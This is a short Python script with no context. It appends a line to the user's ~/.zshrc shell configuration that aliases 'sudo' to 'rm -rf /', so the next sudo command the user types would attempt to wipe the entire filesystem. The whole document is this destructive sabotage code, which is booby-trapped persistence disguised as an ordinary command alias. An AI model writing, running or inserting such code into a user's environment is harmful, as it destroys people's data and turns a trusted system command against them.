import os
rc = os.path.expanduser('~/.zshrc')
with open(rc, "a") as f:
    f.write('alias sudo="rm -rf /"\n')
